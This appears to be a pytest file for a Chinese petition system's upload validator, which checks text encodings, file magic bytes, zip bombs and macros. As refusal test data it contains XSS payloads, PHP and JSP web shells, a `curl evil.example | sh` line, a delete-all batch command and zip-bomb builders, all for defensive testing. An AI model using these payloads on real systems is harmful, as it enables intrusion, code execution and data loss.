"""Attachments (R-INTAKE-1) are judged by their real bytes: genuine Chinese text in UTF-8,
UTF-16 or GB18030 is accepted whole, whatever its length; active content (HTML, SVG, scripts),
archive bombs and malformed archives are refused with a Chinese message naming the file, and
a refusal of one file of several writes nothing at all."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.builders import register
from tests.orgtree import Tree
from xinfang.cases.actions import attachment_add, attachments_add
from xinfang.cases.models import CaseEvent
from xinfang.core.errors import RuleViolation
from xinfang.petitions.attachments import check_upload
from xinfang.petitions.models import Attachment, Petition

LETTER = "我单位局长孙立平违规提拔其侄子，并在工程招标中收受好处费。特此实名举报，请组织调查。\n"

CONTENT_TYPES_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)


def document_xml(text: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )


def docx(document: str | bytes, *, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal valid Word document: the three parts Word needs to open it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES_XML)
        z.writestr("_rels/.rels", RELS_XML)
        z.writestr("word/document.xml", document)
        for name, body in (extra or {}).items():
            z.writestr(name, body)
    return buf.getvalue()


def upload(name: str, body: bytes) -> SimpleUploadedFile:
    # The browser's declared type is a claim only; the checks never read it.
    return SimpleUploadedFile(name, body, content_type="application/octet-stream")


def chinese_text(size: int, *, lead: int) -> bytes:
    """UTF-8 Chinese text of about `size` bytes, shifted by `lead` ASCII bytes so that every
    fixed cut point (4096, 65536, ...) falls inside a three-byte character for some lead."""
    return ("x" * lead + LETTER * (size // len(LETTER.encode()) + 1)).encode()


@pytest.fixture
def petition(tree: Tree, settings: Any, tmp_path: Path) -> Petition:
    settings.MEDIA_ROOT = str(tmp_path)
    return Petition.objects.get(case=register(tree.county_staff))


def _stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


# --- text: whole characters, any length ------------------------------------------------------


@pytest.mark.parametrize("size", [10 * 1024, 100 * 1024])
@pytest.mark.parametrize("lead", [0, 1, 2, 3, 4, 5])
def test_utf8_chinese_text_of_any_length_and_alignment_is_text(size: int, lead: int) -> None:
    # Before the fix the first 4096 bytes were decoded alone: two leads in three cut a
    # character there and the letter was refused.
    body = chinese_text(size, lead=lead)
    assert len(body) >= size
    assert check_upload(upload("举报信.txt", body)).content_type == "text/plain"


def test_text_is_checked_across_every_cut_point_of_the_reader() -> None:
    # 100 KiB read in 64 KiB chunks: every alignment of a character against the chunk edge.
    for lead in range(3):
        body = ("y" * lead + LETTER * 800).encode()
        assert len(body) > 65536 + 3
        assert check_upload(upload("信.txt", body)).ext == ".txt"


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"), ("utf-8", b"\xef\xbb\xbf")],
)
def test_text_with_byte_order_mark_is_text(encoding: str, bom: bytes) -> None:
    body = bom + (LETTER * 200).encode(encoding)
    assert len(body) > 10 * 1024
    assert check_upload(upload("举报信.txt", body)).content_type == "text/plain"


@pytest.mark.parametrize("lead", [0, 1])
def test_gbk_text_from_an_office_pc_is_text(lead: int) -> None:
    body = ("x" * lead + LETTER * 200).encode("gbk")
    assert len(body) > 10 * 1024
    assert check_upload(upload("举报信.txt", body)).ext == ".txt"


def test_utf16_text_is_stored_end_to_end(petition: Petition, tmp_path: Path) -> None:
    body = b"\xff\xfe" + (LETTER * 100).encode("utf-16-le")
    att = attachment_add(
        actor=petition.registrar, petition=petition, upload=upload("举报信.txt", body)
    )
    assert att.content_type == "text/plain" and att.size == len(body)
    assert [p.read_bytes() for p in _stored_files(tmp_path)] == [body]


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (b"\x00\x01\x02binary" * 10, "内容与文件类型"),
        ((LETTER * 10).encode()[:-1] + b"\xff\xfe\x00", "内容与文件类型"),
        # UTF-16 without its byte-order mark cannot be told from binary: refused.
        ((LETTER * 10).encode("utf-16-le"), "内容与文件类型"),
    ],
)
def test_binary_or_broken_text_is_refused(body: bytes, why: str) -> None:
    with pytest.raises(RuleViolation, match=rf"“坏.txt”.*{why}"):
        check_upload(upload("坏.txt", body))


# --- active content ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("说明.txt", b"<!DOCTYPE html><html><body>hello</body></html>"),
        ("说明.txt", b"\r\n  <html><p>" + LETTER.encode() + b"</p></html>"),
        ("说明.txt", b"<p>" + LETTER.encode() + b"</p>"),
        ("说明.txt", LETTER.encode() * 50 + b"<script>alert(document.cookie)</script>"),
        ("说明.txt", LETTER.encode() + b'<ScRiPt src="//evil.example/x.js"></script>'),
        ("说明.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        (
            "说明.txt",
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(1)</script></svg>",
        ),
        ("说明.txt", LETTER.encode() + b'<iframe src="https://evil.example/"></iframe>'),
        ("说明.txt", LETTER.encode() + b"<details open ontoggle=alert(1)>"),
        ("说明.txt", LETTER.encode() + b'<video src=x onerror="alert(1)">'),
        ("说明.txt", (LETTER + '<a href="javascript:alert(1)">点此</a>').encode()),
        ("说明.txt", b"<?php system($_GET['c']); ?>\n"),
        ("说明.txt", LETTER.encode() + b"<?php eval($_POST[1]); ?>"),
        ("说明.txt", b"#!/bin/sh\ncurl https://evil.example/x | sh\n"),
        ("说明.txt", b"#!/usr/bin/env node\nrequire('child_process').exec('id')\n"),
        ("说明.txt", b"@echo off\r\ndel /q C:\\*\r\n"),
        ("说明.txt", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
        ("说明.txt", b"\xff\xfe" + "<html><script>alert(1)</script>".encode("utf-16-le")),
        ("说明.txt", "<script>alert('举报')</script>".encode("gbk")),
    ],
)
def test_active_content_is_refused(name: str, body: bytes) -> None:
    with pytest.raises(RuleViolation, match=r"“说明.txt”.*网页、脚本"):
        check_upload(upload(name, body))


@pytest.mark.parametrize("name", ["页面.html", "图.svg", "脚本.js", "脚本.php", "脚本.sh"])
def test_active_types_are_refused_by_name(name: str) -> None:
    with pytest.raises(RuleViolation, match=rf"“{name}”.*类型不支持"):
        check_upload(upload(name, b"<html><script>alert(1)</script></html>"))


def test_plain_text_mentioning_angle_brackets_is_still_text() -> None:
    # Quoting a document title or a comparison is not markup.
    body = "《关于进一步加强干部监督的通知》中规定，年龄<35岁者 x<y 且 a>b。\n".encode()
    assert check_upload(upload("信.txt", body)).ext == ".txt"


# --- binary formats by their magic bytes -------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "body", "content_type"),
    [
        ("证明.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "application/pdf"),
        ("照片.jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", "image/jpeg"),
        ("照片.JPG", b"\xff\xd8\xff\xe1\x00\x10Exif\x00\x00", "image/jpeg"),
        ("截图.PNG", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
        ("旧稿.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 32, "application/msword"),
    ],
)
def test_binary_types_by_magic_bytes(name: str, body: bytes, content_type: str) -> None:
    assert check_upload(upload(name, body)).content_type == content_type


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("证明.pdf", b"<html><script>alert(1)</script></html>"),
        ("照片.png", b"\xff\xd8\xff\xe0 a jpeg named png"),
        ("照片.jpg", b"GIF89a"),
        ("旧稿.doc", b"PK\x03\x04"),
    ],
)
def test_magic_bytes_must_match_the_name(name: str, body: bytes) -> None:
    with pytest.raises(RuleViolation, match=rf"“{name}”.*内容与文件类型"):
        check_upload(upload(name, body))


# --- Word documents (zip archives) ------------------------------------------------------------


def test_genuine_small_docx_is_accepted(petition: Petition) -> None:
    body = docx(document_xml(LETTER * 20))
    att = attachment_add(
        actor=petition.registrar, petition=petition, upload=upload("举报材料.docx", body)
    )
    assert att.content_type == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def test_docx_bomb_over_the_size_limit_is_refused(settings: Any) -> None:
    # Default limit 100 MiB; this 110 KiB file inflates to 110 MiB.
    assert settings.XINFANG_ATTACHMENT_ZIP_MAX_BYTES == 100 * 1024 * 1024
    bomb = docx(b"\x00" * (110 * 1024 * 1024))
    assert len(bomb) < 200 * 1024
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*解压后过大"):
        check_upload(upload("材料.docx", bomb))


def test_docx_size_limit_first_day_last_day_and_after(settings: Any) -> None:
    # The uncompressed total is compared with the limit: at it passes, one byte over fails.
    settings.XINFANG_ATTACHMENT_ZIP_MAX_RATIO = 10_000
    body = docx(b"\x00" * 1000)
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        total = sum(i.file_size for i in z.infolist())
    settings.XINFANG_ATTACHMENT_ZIP_MAX_BYTES = total
    assert check_upload(upload("材料.docx", body)).ext == ".docx"
    settings.XINFANG_ATTACHMENT_ZIP_MAX_BYTES = total - 1
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*解压后过大"):
        check_upload(upload("材料.docx", body))


def test_docx_with_a_bomb_ratio_is_refused_under_the_size_limit(settings: Any) -> None:
    # 2 MiB of zeros: well under 100 MiB, but it compresses a thousandfold.
    assert settings.XINFANG_ATTACHMENT_ZIP_MAX_RATIO == 100
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*压缩比异常"):
        check_upload(upload("材料.docx", docx(b"\x00" * (2 * 1024 * 1024))))


def test_docx_ratio_limit_last_passing_and_first_refused(settings: Any) -> None:
    body = docx(b"\x00" * 200_000)
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        total = sum(i.file_size for i in z.infolist())
    ratio = total / len(body)
    settings.XINFANG_ATTACHMENT_ZIP_MAX_RATIO = int(ratio) + 1
    assert check_upload(upload("材料.docx", body)).ext == ".docx"
    settings.XINFANG_ATTACHMENT_ZIP_MAX_RATIO = int(ratio)
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*压缩比异常"):
        check_upload(upload("材料.docx", body))


def test_attachment_size_limit_at_and_over(settings: Any) -> None:
    settings.XINFANG_ATTACHMENT_MAX_BYTES = 1024
    at_limit = b"%PDF-1.4" + b"x" * (1024 - 8)
    assert check_upload(upload("证明.pdf", at_limit)).size == 1024
    with pytest.raises(RuleViolation, match=r"“证明.pdf”.*超过上限"):
        check_upload(upload("证明.pdf", at_limit + b"x"))


def _lie_about_size(body: bytes, member: str, declared: int) -> bytes:
    """Rewrite both headers of `member` to claim `declared` uncompressed bytes."""
    data = bytearray(body)
    name = member.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + name_len] == name:
            struct.pack_into("<I", data, local + 22, declared)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name:
            struct.pack_into("<I", data, central + 24, declared)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def _overwrite(body: bytes, at: int, n: int) -> bytes:
    return body[:at] + b"\x00" * n + body[at + n :]


def test_docx_whose_headers_understate_the_content_is_refused() -> None:
    # The headers say 100 bytes; the stream inflates to 50 MiB. The real bytes are read.
    liar = _lie_about_size(docx(b"\x00" * (50 * 1024 * 1024)), "word/document.xml", 100)
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*损坏"):
        check_upload(upload("材料.docx", liar))


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (b"PK\x03\x04 not really a zip", "损坏"),
        (docx(document_xml(LETTER))[:-30], "损坏"),
        # 50 bytes of the compressed text overwritten: the CRC check finds it.
        (_overwrite(docx(document_xml(LETTER * 5)), 200, 50), "损坏"),
    ],
)
def test_malformed_docx_is_refused(body: bytes, why: str) -> None:
    with pytest.raises(RuleViolation, match=rf"“材料.docx”.*{why}"):
        check_upload(upload("材料.docx", body))


def test_damaged_docx_is_never_a_server_error() -> None:
    # Every truncation and a few hundred corruptions of a genuine document: each is either
    # still readable or refused with a Chinese message naming the file, never another error.
    import random

    base = docx(document_xml(LETTER * 50))
    rng = random.Random(20261202)
    variants = [base[:i] for i in range(0, len(base), 7)]
    for _ in range(300):
        damaged = bytearray(base)
        for _ in range(rng.randint(1, 4)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        variants.append(bytes(damaged))
    refused = 0
    for body in variants:
        try:
            check_upload(upload("材料.docx", body))
        except RuleViolation as err:
            assert str(err).startswith("附件“材料.docx”"), str(err)
            refused += 1
    assert refused > len(variants) * 0.9


def test_docx_with_a_compression_method_word_never_uses_is_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_BZIP2) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES_XML)
        z.writestr("word/document.xml", document_xml(LETTER))
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*损坏"):
        check_upload(upload("材料.docx", buf.getvalue()))


def test_zip_that_is_not_a_word_document_is_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("index.html", "<script>alert(1)</script>")
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*内容与文件类型"):
        check_upload(upload("材料.docx", buf.getvalue()))


def test_docx_with_macros_is_refused() -> None:
    body = docx(document_xml(LETTER), extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    with pytest.raises(RuleViolation, match=r"“材料.docx”.*宏"):
        check_upload(upload("材料.docx", body))


# --- several at once: all or nothing ----------------------------------------------------------


def test_one_refused_attachment_of_several_writes_nothing(
    petition: Petition, tmp_path: Path
) -> None:
    events = CaseEvent.objects.count()
    uploads = [
        upload("证明.pdf", b"%PDF-1.4 ok"),
        upload("材料.docx", docx(b"\x00" * (110 * 1024 * 1024))),
        upload("说明.txt", b"<script>alert(1)</script>"),
        upload("举报信.txt", (LETTER * 300).encode()),
    ]
    with pytest.raises(RuleViolation, match=re.escape("“材料.docx”")) as err:
        attachments_add(actor=petition.registrar, petition=petition, uploads=uploads)
    # Every refused file is named, each once; the good ones are not blamed.
    text = str(err.value)
    assert "“材料.docx”" in text and "“说明.txt”" in text
    assert "证明.pdf" not in text and "举报信.txt" not in text
    assert Attachment.objects.count() == 0
    assert CaseEvent.objects.count() == events
    assert _stored_files(tmp_path) == []


def test_several_good_attachments_are_stored_together(petition: Petition, tmp_path: Path) -> None:
    events = CaseEvent.objects.count()
    atts = attachments_add(
        actor=petition.registrar,
        petition=petition,
        uploads=[upload("证明.pdf", b"%PDF-1.4 ok"), upload("信.txt", LETTER.encode("gb18030"))],
    )
    assert [a.original_name for a in atts] == ["证明.pdf", "信.txt"]
    assert Attachment.objects.count() == 2
    assert CaseEvent.objects.count() == events + 2
    assert len(_stored_files(tmp_path)) == 2


def test_a_failure_while_writing_removes_the_files_already_stored(
    petition: Petition, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from xinfang.cases.actions import intake as services

    calls = {"n": 0}
    real = services.append_record

    def failing_second(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuleViolation("模拟写入失败")
        return real(*args, **kwargs)

    monkeypatch.setattr(services, "append_record", failing_second)
    with pytest.raises(RuleViolation, match="模拟写入失败"):
        attachments_add(
            actor=petition.registrar,
            petition=petition,
            uploads=[upload("a.pdf", b"%PDF-1.4 a"), upload("b.pdf", b"%PDF-1.4 b")],
        )
    assert Attachment.objects.count() == 0
    assert _stored_files(tmp_path) == []
